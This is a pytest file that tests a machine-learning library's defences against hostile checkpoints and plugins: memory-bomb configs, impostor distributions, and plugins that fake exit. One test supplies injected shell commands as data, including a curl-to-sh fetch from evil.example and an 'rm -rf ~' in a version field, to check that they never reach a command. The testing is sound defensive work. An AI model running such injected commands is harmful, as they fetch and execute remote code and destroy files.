"""Hostile cases, second round (issue 19, points 2, 3 and 4): an untrusted checkpoint is data, no
plugin can replace a first-party component, plugin code cannot stop the program or fake success.

Each test fails if its class of problem comes back; tests/HOSTILE-2.md lists them with what
achilles did before and what it does now.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import types
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from safetensors.torch import save_file

import achilles
from achilles import HookedModel, hookimpl
from achilles.runs.folder import RunFolder
from achilles.runs.files import file_sha256

import toy_plugin
from hub_fixtures import *  # noqa: F401,F403  (fixtures: hub)

HERE = Path(__file__).resolve().parent
REPO = HERE.parent


def achilles_cli(*args):
    from achilles.cli.main import get_cli

    return CliRunner().invoke(get_cli(), [str(a) for a in args])


def one_error_line(result) -> str:
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.output and "internal error" not in lines[0], lines[0]
    return lines[0]


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux


@pytest.fixture(autouse=True)
def toy():
    achilles.register_plugin(toy_plugin, "toy")


# -- 2. an untrusted checkpoint is data, never a program or a memory bomb ----------------------
@pytest.fixture
def saved(tmp_path) -> Path:
    """A tiny first-party transformer saved with save_pretrained (config.json + model.safetensors)."""
    folder = tmp_path / "saved"
    achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).save_pretrained(folder)
    return folder


@pytest.fixture(scope="module")
def trained_run(tmp_path_factory) -> Path:
    from achilles.training.trainer import finalize_run, start_run

    achilles.register_plugin(toy_plugin, "toy")
    path = tmp_path_factory.mktemp("trained") / "run"
    trainer = start_run("toy-mixer", "toy-count", out=path, profile="quick", epochs=1, train_samples=64,
                        eval_samples=16, batch_size=16, progress=False)
    assert trainer.fit().status == "finished"
    finalize_run(path)
    return path


@pytest.fixture
def run_copy(trained_run, tmp_path) -> Path:
    return Path(shutil.copytree(trained_run, tmp_path / "run"))


def edit_config(folder: Path, **changes) -> None:
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, **changes}))


def every_loader(folder: Path):
    """Each way to load a checkpoint folder in Python."""
    return {"from_pretrained": lambda: HookedModel.from_pretrained(str(folder)),
            "create_model(pretrained=True)": lambda: achilles.create_model(str(folder), pretrained=True),
            "create_model": lambda: achilles.create_model(str(folder))}


@pytest.mark.parametrize("change, error, says", [
    ({"d_model": 10 ** 7}, "TooLargeError", ["refusing to build", "PiB", "d_model=10,000,000"]),
    ({"d_model": 4096}, "CheckpointError", ["tensor 'embed.weight' has shape [16, 8] in the file, the model expects "
                                            "[16, 4096]"]),
    ({"n_layers": 10 ** 6}, "CheckpointError", ["8,000,005 tensors", "n_layers=1,000,000", "holds 21"]),
], ids=["d-model-1e7", "d-model-4096", "n-layers-1e6"])
def test_a_huge_config_with_small_weights_is_refused_before_building(saved, change, error, says):
    edit_config(saved, **change)
    for loader, load in every_loader(saved).items():
        before, started = peak_rss_mb(), time.monotonic()
        with pytest.raises(achilles.AchillesError) as info:
            load()
        assert type(info.value).__name__ == error, (loader, info.value)
        for needle in says:
            assert needle in str(info.value), (loader, str(info.value))
        assert time.monotonic() - started < 30, loader  # was: still building after 90 s (n_layers 10^6)
        assert peak_rss_mb() - before < 200, loader     # was: 1.9 GB (d_model 4096), 1.6 PB asked (10^7)


@pytest.mark.parametrize("change", [{"d_model": 4096}, {"n_layers": 10 ** 6}, {"d_model": 10 ** 7}])
def test_a_run_folder_with_a_huge_config_is_refused_by_load_eval_and_probe(run_copy, change):
    edit_config(run_copy, **change)  # the weights (and their sha256 in run.json) are unchanged
    with pytest.raises(achilles.AchillesError, match="refusing to build|in the file, the model expects"):
        achilles.load(run_copy)
    for argv in (("eval", run_copy), ("probe", run_copy, "--probe", "toy-echo")):
        line = one_error_line(achilles_cli(*argv))
        assert "refusing to build" in line or "in the file, the model expects" in line, line


def _rewrite_weights(folder: Path, tensors: dict[str, torch.Tensor]) -> None:
    save_file(tensors, str(folder / "model.safetensors"), metadata={"format": "pt"})


@pytest.mark.parametrize("change", [{"vocab_size": 10 ** 30}, {"norm_eps": "nan"}, {"d_model": -5}, {"n_layers": True},
                                    {"max_len": 10 ** 12}, {"evil": 1}])
def test_a_config_with_settings_no_model_takes_is_one_error(saved, change):
    edit_config(saved, **change)
    for loader, load in every_loader(saved).items():
        with pytest.raises(achilles.AchillesError):  # was: TypeError (internal error) for the first two
            load()


def test_weights_whose_names_shapes_or_dtypes_differ_are_refused_naming_the_first(saved):
    good = dict(achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).state_dict())
    cases = {
        "shape": ({**good, "pos_embed.weight": torch.zeros(33, 8)},
                  "tensor 'pos_embed.weight' has shape [33, 8] in the file, the model expects [32, 8]"),
        "dtype": ({**good, "pos_embed.weight": torch.zeros(32, 8, dtype=torch.float64)},
                  "tensor 'pos_embed.weight' is F64 in the file, the model expects F32"),
        "extra": ({**good, "evil": torch.zeros(1)}, "the file holds tensor 'evil', which the model has not"),
        "missing": ({k: v for k, v in good.items() if k != "unembed.weight"},
                    "tensor 'unembed.weight' is missing from the file"),
    }
    for what, (tensors, says) in cases.items():
        _rewrite_weights(saved, tensors)
        with pytest.raises(achilles.CheckpointError, match="do not fit 'transformer'") as info:
            HookedModel.from_pretrained(str(saved))
        assert says in str(info.value), (what, str(info.value))


def test_a_huge_tensor_in_the_file_is_refused_without_reading_it(saved):
    good = dict(achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).state_dict())
    _rewrite_weights(saved, {**good, "embed.weight": torch.zeros(16, 4_000_000)})  # 256 MB on disk
    before = peak_rss_mb()
    with pytest.raises(achilles.CheckpointError, match=r"'embed.weight' has shape \[16, 4000000\] in the file, "
                                                       r"the model expects \[16, 8\]"):
        HookedModel.from_pretrained(str(saved))
    assert peak_rss_mb() - before < 128  # the header was read, not the 256 MB tensor


def test_a_checkpoint_never_loads_another_checkpoint(saved, tmp_path):
    for arch in (str(saved), "hf-hub:evil-org/loop", "./saved", "transformer@hf-hub:x"):
        edit_config(saved, arch=arch)  # names itself, a Hub repo, a relative folder
        for loader, load in every_loader(saved).items():
            started = time.monotonic()
            with pytest.raises(achilles.AchillesError, match="unknown architecture|no registered architecture"):
                load()
            assert time.monotonic() - started < 10, loader  # no recursion, no download

    # a component whose factory itself loads a checkpoint (a plugin's mistake or a trap): one level only
    other = tmp_path / "other"
    achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=1).save_pretrained(other)
    trap = types.SimpleNamespace()

    @hookimpl
    def register_architectures(register):
        def build(**settings):
            return achilles.create_model(str(other), pretrained=True)
        register("trap-arch", build)

    trap.register_architectures = register_architectures
    assert achilles.register_plugin(trap, "trap")
    edit_config(saved, arch="trap-arch")
    with pytest.raises(achilles.CheckpointError, match="loading is one level deep"):
        HookedModel.from_pretrained(str(saved))


def test_a_hub_repo_with_a_huge_config_is_refused_before_building(hub, saved):
    import huggingface_hub.file_download  # noqa: F401  (the hub fixture quiets its progress bars)

    achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).push_to_hub("evil/huge")
    config = json.loads((saved / "config.json").read_text())  # the same settings
    for change, says in (({"d_model": 10 ** 7}, "refusing to build"), ({"d_model": 4096}, "the model expects [16, 4096]"),
                         ({"n_layers": 10 ** 6}, "8,000,005 tensors"), ({"arch": "hf-hub:evil/huge"}, "architecture")):
        hub.hub.replace_file("evil/huge", "config.json", json.dumps({**config, **change}).encode())
        for load in (lambda: HookedModel.from_pretrained("evil/huge", force_download=True),
                     lambda: achilles.create_model("hf-hub:evil/huge", pretrained=True)):
            started = time.monotonic()
            with pytest.raises(achilles.AchillesError) as info:
                load()
            assert says in str(info.value), str(info.value)
            assert time.monotonic() - started < 30


def test_a_resumed_checkpoint_whose_tensors_do_not_fit_is_refused_before_reading(run_copy):
    from achilles.training.trainer import resume_run

    record = RunFolder(run_copy).read_config()  # an interrupted run of 2 epochs, its checkpoint at epoch 1
    RunFolder(run_copy).update_config(status="interrupted", training={**record["training"], "epochs": 2})
    state = json.loads((run_copy / "checkpoint" / "state.json").read_text())
    weights = run_copy / "checkpoint" / state["model"]
    tensors = {"embedding.weight": torch.zeros(8, 8_000_000)}  # 256 MB, no such shape in the model
    save_file(tensors, str(weights))
    state["model_sha256"] = file_sha256(weights)
    (run_copy / "checkpoint" / "state.json").write_text(json.dumps(state))
    before = peak_rss_mb()
    with pytest.raises(achilles.CheckpointError, match=r"tensor '(layers|embedding|unembed)[^']*' (is missing|has shape)"):
        resume_run(run_copy, progress=False)
    assert peak_rss_mb() - before < 128


def test_resuming_a_run_whose_config_asks_for_a_huge_model_is_refused_before_building(run_copy):
    from achilles.training.trainer import resume_run

    record = RunFolder(run_copy).read_config()
    RunFolder(run_copy).update_config(status="interrupted", training={**record["training"], "epochs": 2})
    edit_config(run_copy, d_model=10 ** 7)
    before, started = peak_rss_mb(), time.monotonic()
    with pytest.raises(achilles.AchillesError, match="of memory"):
        resume_run(run_copy, progress=False)
    assert time.monotonic() - started < 30 and peak_rss_mb() - before < 200


def test_a_probe_reading_the_runs_initial_weights_checks_their_header_first(tmp_path):
    model = achilles.create_model("mamba2", vocab_size=16, max_len=32, d_model=8, n_layers=1)
    init = tmp_path / "init.safetensors"
    save_file({**{k: v.contiguous() for k, v in model.state_dict().items()}, "embed.weight": torch.zeros(16, 4_000_000)},
              str(init))
    before = peak_rss_mb()
    with pytest.raises(achilles.CheckpointError, match=r"'embed.weight' has shape \[16, 4000000\] in the file"):
        achilles.get_probe("conv-similarity").initial_kernels(model, None, str(init))
    assert peak_rss_mb() - before < 128


@pytest.mark.parametrize("dist, version, absent, says", [
    ("evil' && curl https://evil.example/x | sh #", "1.0", ["curl", "pip install", "&&"],
     "provided_by.arch.distribution field holds an invalid distribution name"),
    ("achilles-gone-plugin", "1.0'; rm -rf ~; echo '", ["rm -rf", "1.0'"],
     "pip install 'achilles-gone-plugin'"),
    ("-e git+https://evil.example/x", "1.0", ["git+", "pip install"], "invalid distribution name"),
    ("achilles-gone-plugin", "1.2.3", [], "pip install 'achilles-gone-plugin==1.2.3'"),
], ids=["shell-in-name", "shell-in-version", "pip-option-in-name", "valid"])
def test_text_from_a_checkpoint_never_reaches_a_command_to_run(run_copy, dist, version, absent, says):
    RunFolder(run_copy).update_config(arch="gone-arch", provided_by={
        "arch": {"plugin": "x", "distribution": dist, "version": version}})
    line = one_error_line(achilles_cli("eval", run_copy))
    assert says in line, line
    for needle in absent:
        assert needle not in line, line


# -- plugins installed as distributions ---------------------------------------------------------
def install_distribution(site: Path, dist: str, version: str, entry_points: dict[str, str],
                         modules: dict[str, str]) -> Path:
    """A dist-info with entry points in group 'achilles', and its modules, in folder ``site``."""
    info = site / f"{dist.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n")
    (info / "entry_points.txt").write_text("[achilles]\n" + "".join(f"{k} = {v}\n" for k, v in entry_points.items()))
    for name, source in modules.items():
        (site / f"{name}.py").write_text(source)
    return info


FIRST_PARTY_ARCHS = ["conv-transformer", "mamba2", "mamba2-allone", "mamba2-gated", "mamba2-global", "mamba2-posenc",
                     "mamba2-residual", "transformer"]

TAKER = '''
from achilles import hookimpl
from achilles.plugins.archs.transformer import build_transformer

@hookimpl
def register_architectures(register):
    register("mamba2", build_transformer, description="taken")
    register("transformer", build_transformer, description="taken")
    register("{own}", build_transformer, description="its own")
'''


# -- 3. no plugin can replace or remove a first-party component ---------------------------------
def _first_party_intact(state) -> None:
    archs = state.registries["architecture"]
    for name in FIRST_PARTY_ARCHS:
        assert name in archs and archs.get(name).plugin == "archs", name
    assert {"tasks", "archs", "probes", "recipes"} <= set(state.plugins)
    assert all(state.plugins[n].distribution == "achilles" and state.plugins[n].module == f"achilles.plugins.{n}"
               for n in ("tasks", "archs", "probes", "recipes"))


@pytest.mark.parametrize("allow", [None, "achilles", "evil-taker"])
def test_an_impostor_achilles_dist_info_neither_empties_nor_takes_the_registry(tmp_path, monkeypatch, capsys, allow):
    site = tmp_path / "site"
    impostor = install_distribution(site, "achilles", "99.0", {"archs": "achilles.plugins", "tasks": "fake_tasks",
                                                               "probes": "achilles.plugins.archs"},
                                    {"fake_tasks": TAKER.replace("{own}", "fake-own")})
    monkeypatch.syspath_prepend(str(site))  # earlier on sys.path than the real achilles
    if allow is None:
        monkeypatch.delenv("ACHILLES_PLUGINS")
    else:
        monkeypatch.setenv("ACHILLES_PLUGINS", allow)
    state = achilles.reload_plugins()
    _first_party_intact(state)
    assert "fake-own" not in state.registries["architecture"]  # none of the impostor's code ran
    err = capsys.readouterr().err
    assert f"distribution 'achilles' 99.0 ({impostor}) calls itself achilles but is not the installed achilles" in err
    assert err.count(str(impostor)) == 1  # named once


@pytest.mark.parametrize("allow", [None, "evil-taker"])
def test_a_third_party_cannot_take_or_replace_first_party_components(tmp_path, monkeypatch, capsys, allow):
    """Entry points into achilles' own modules, one resolving to one of them through sys.modules,
    and plain first-party names registered by a third party named alone in ACHILLES_PLUGINS."""
    site = tmp_path / "site"
    taker = install_distribution(site, "evil-taker", "1.0",
                                 {"archs": "achilles.plugins.archs", "whole": "achilles.plugins",
                                  "alias": "evil_alias", "aaa": "evil_taker"},
                                 {"evil_taker": TAKER.replace("{own}", "evil-own"),
                                  "evil_alias": "import sys, achilles.plugins.archs as m\nsys.modules[__name__] = m\n"})
    monkeypatch.syspath_prepend(str(site))
    if allow is None:
        monkeypatch.delenv("ACHILLES_PLUGINS")
    else:
        monkeypatch.setenv("ACHILLES_PLUGINS", allow)  # names the third party only
    state = achilles.reload_plugins()
    _first_party_intact(state)
    archs = state.registries["architecture"]
    assert archs.get("evil-own").plugin == "evil-taker:aaa"  # the rest of it loads
    assert {(c.loser, c.name) for c in state.conflicts} == {("evil-taker:aaa", "mamba2"),
                                                            ("evil-taker:aaa", "transformer")}
    assert set(p for p in state.plugins if p.startswith("evil-taker")) == {"evil-taker:aaa"}
    err = capsys.readouterr().err
    assert f"distribution 'evil-taker' 1.0 ({taker}) declares entry points into achilles' own modules" in err
    assert "entry point 'alias' resolves to achilles' own module 'achilles.plugins.archs'; skipped" in err
    assert "cannot register architecture 'mamba2'" in err


def test_an_impostor_is_named_by_the_cli_too(tmp_path):
    site = tmp_path / "site"
    install_distribution(site, "achilles", "99.0", {"archs": "achilles.plugins"}, {})
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")])}
    env.pop("ACHILLES_PLUGINS")
    proc = subprocess.run([sys.executable, "-m", "achilles.cli.main", "list", "architectures"], env=env,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert all(name in proc.stdout for name in FIRST_PARTY_ARCHS), proc.stdout
    assert "calls itself achilles but is not the installed achilles" in proc.stderr


# -- 4. plugin code cannot stop the program or fake success -------------------------------------
def _site_env(site: Path, allow: str) -> dict[str, str]:
    return {**os.environ, "ACHILLES_PLUGINS": allow,
            "PYTHONPATH": os.pathsep.join([str(site), str(HERE), os.environ.get("PYTHONPATH", "")])}


def _run(env, *args, timeout=180):
    return subprocess.run([sys.executable, "-m", "achilles.cli.main", *map(str, args)], env=env, capture_output=True,
                          text=True, timeout=timeout)


RAISES_AT = {
    "import": "{raise_}\n",
    "registration": '''
from achilles import hookimpl
from achilles.plugins.archs.transformer import build_transformer

@hookimpl
def register_architectures(register):
    register("half-registered", build_transformer)
    {raise_}
''',
    "commands": '''
from achilles import hookimpl

@hookimpl
def register_commands(cli):
    {raise_}
''',
}


@pytest.mark.parametrize("raise_", ["raise SystemExit(0)", "raise SystemExit(3)", "raise KeyboardInterrupt"],
                         ids=["SystemExit-0", "SystemExit-3", "KeyboardInterrupt"])
def test_a_plugin_raising_exit_or_interrupt_is_skipped_not_obeyed(tmp_path, raise_):
    """One distribution, three plugins: one raises at import, one in register_architectures (after
    registering a name), one in register_commands."""
    site = tmp_path / "site"
    modules = {f"quitter_{where}": source.replace("{raise_}", raise_) for where, source in RAISES_AT.items()}
    install_distribution(site, "quitter", "1.0", {where: f"quitter_{where}" for where in RAISES_AT}, modules)
    env = _site_env(site, "achilles,quitter")
    error = raise_.removeprefix("raise ").replace("(", ": ").rstrip(")").replace("KeyboardInterrupt", "KeyboardInterrupt:")
    # was: `achilles --help` exit 3 and no output; `achilles list` nothing, exit 0
    helped = _run(env, "--help")
    assert helped.returncode == 0 and "train" in helped.stdout and "list" in helped.stdout, helped
    listed = _run(env, "list", "architectures")
    assert listed.returncode == 0 and all(name in listed.stdout for name in FIRST_PARTY_ARCHS), listed
    assert "half-registered" not in listed.stdout  # rolled back
    stages = {"import": "import", "registration": "register_architectures", "commands": "register_commands"}
    # --help imports plugins and adds their commands; list also registers their components
    for proc, wheres in ((helped, ("import", "commands")), (listed, ("import", "registration"))):
        for where in wheres:
            warnings = [line for line in proc.stderr.splitlines() if f"'quitter:{where}'" in line]
            assert len(warnings) == 1, proc.stderr  # reported once
            assert f"plugin 'quitter:{where}' skipped ({stages[where]} failed: {error}" in warnings[0], warnings


LISTENER = '''
from achilles import hookimpl

@hookimpl
def on_trainer_event(event):
    {body}
'''


@pytest.mark.parametrize("raise_", ["raise SystemExit(0)", "raise KeyboardInterrupt"])
def test_a_listener_raising_exit_or_interrupt_cannot_end_training(tmp_path, raise_):
    """was: training ended half-way with exit 0 and run.json left 'running'."""
    site = tmp_path / "site"
    install_distribution(site, "toy-plugin", "1.0", {"toy": "toy_plugin"}, {})
    body = f'if event.kind == "epoch_ended":\n        {raise_}'
    install_distribution(site, "quitter", "1.0", {"q": "quitter"}, {"quitter": LISTENER.replace("{body}", body)})
    run = tmp_path / "run"
    proc = _run(_site_env(site, "achilles,toy-plugin,quitter"), "train", "--arch", "toy-mixer", "--task", "toy-count",
                "--epochs", "3", "--train-samples", "64", "--eval-samples", "16", "--batch-size", "16", "--no-progress",
                "--out", run)
    assert proc.returncode == 0, proc.stderr
    record = json.loads((run / "run.json").read_text())
    assert record["status"] == "finished" and record["epochs_completed"] == 3, record
    warnings = [line for line in proc.stderr.splitlines() if "quitter" in line]
    assert len(warnings) == 1 and "gets no more events in this run" in warnings[0], proc.stderr  # disabled once


@pytest.mark.parametrize("listener, presses", [
    ("time.sleep(120)", 1),                                                         # blocks
    ("try:\n            time.sleep(120)\n        except BaseException:\n            pass", 1),  # swallows, returns
    ("try:\n            time.sleep(120)\n        except BaseException:\n            time.sleep(120)", 2),
], ids=["blocks", "swallows-and-returns", "swallows-and-blocks"])
def test_a_real_ctrl_c_still_interrupts_a_listener_and_training(tmp_path, listener, presses):
    """A real SIGINT while a listener runs stops training: exit 130, the run interrupted (resumable).
    A listener that swallows it and blocks again is stopped by a second Ctrl-C."""
    site = tmp_path / "site"
    install_distribution(site, "toy-plugin", "1.0", {"toy": "toy_plugin"}, {})
    marker = tmp_path / "in-listener"
    body = (f'if event.kind == "epoch_ended":\n        import pathlib, time\n'
            f'        pathlib.Path({str(marker)!r}).write_text("x")\n        {listener}')
    install_distribution(site, "blocker", "1.0", {"b": "blocker"}, {"blocker": LISTENER.replace("{body}", body)})
    run = tmp_path / "run"
    argv = [sys.executable, "-m", "achilles.cli.main", "train", "--arch", "toy-mixer", "--task", "toy-count", "--epochs",
            "3", "--train-samples", "64", "--eval-samples", "16", "--batch-size", "16", "--no-progress", "--out", str(run)]
    proc = subprocess.Popen(argv, env=_site_env(site, "achilles,toy-plugin,blocker"), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not marker.exists() and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.1)
        assert marker.exists(), proc.communicate(timeout=5)
        time.sleep(0.5)
        sent = time.monotonic()
        for _ in range(presses):
            proc.send_signal(signal.SIGINT)
            time.sleep(1)
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert time.monotonic() - sent < 30  # not after the listener's two minutes
    assert proc.returncode == 130, err
    record = json.loads((run / "run.json").read_text())
    assert record["status"] == "interrupted" and record["epochs_completed"] == 1, record


def test_plugin_code_tells_a_plugins_interrupt_from_a_real_ctrl_c():
    """The guard itself (plugin_manager._plugin_code), in this process: a KeyboardInterrupt raised by
    plugin code is the plugin's; a real SIGINT is delivered even when the plugin swallows it, also
    through nested guards; someone else's SIGINT handler still gets it."""
    from achilles.contract.isolation import _plugin_code, _UserInterrupt

    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt) as own:
            with _plugin_code():
                raise KeyboardInterrupt
        assert not isinstance(own.value, _UserInterrupt)  # the plugin's: its caller catches it
        with pytest.raises(_UserInterrupt):  # callers re-raise it: the program is interrupted
            with _plugin_code():
                try:
                    os.kill(os.getpid(), signal.SIGINT)
                    time.sleep(5)
                except BaseException:  # the plugin swallows it
                    pass
        with pytest.raises(_UserInterrupt):  # a guard inside a guard (a plugin registering another)
            with _plugin_code():
                try:
                    with _plugin_code():
                        os.kill(os.getpid(), signal.SIGINT)
                        time.sleep(5)
                except _UserInterrupt:
                    raise
                except BaseException:  # what a guard's caller does with the plugin's own exceptions
                    pass
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
        seen = []
        signal.signal(signal.SIGINT, lambda *_: seen.append("sigint"))
        with _plugin_code():
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(0.2)
        assert seen == ["sigint"]
    finally:
        signal.signal(signal.SIGINT, previous)

